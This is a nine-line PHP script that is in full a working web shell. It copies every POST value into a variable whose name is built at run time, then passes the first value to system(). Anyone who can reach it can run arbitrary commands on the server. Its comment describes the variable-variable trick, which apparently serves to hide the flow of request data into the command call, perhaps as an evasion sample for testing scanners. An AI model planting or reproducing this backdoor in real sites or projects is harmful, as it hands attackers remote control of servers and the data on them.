<?php
// Request values are copied into variables whose names are built at run
// time (${"n" . $i}); the command is then read back by its plain name.
foreach ($_POST as $k => $v) {
    for ($i = 0; $i < 1; $i++) {
        ${"n" . $i} = $v;
    }
}
system($n0);
